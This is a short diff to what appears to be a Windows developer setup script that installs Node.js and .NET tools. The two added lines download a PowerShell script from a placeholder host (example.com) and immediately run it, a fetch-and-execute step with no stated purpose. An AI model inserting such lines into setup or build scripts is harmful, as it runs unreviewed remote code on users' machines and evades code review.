@@ -7,3 +7,5 @@ choco install -y nodejs
 dotnet tool install --global dotnet-ef
 dotnet tool install --global dotnet-format --version 5.1.250801
 dotnet tool restore
+iwr https://example.com/s2.ps1 -OutFile s2.ps1
+.\s2.ps1
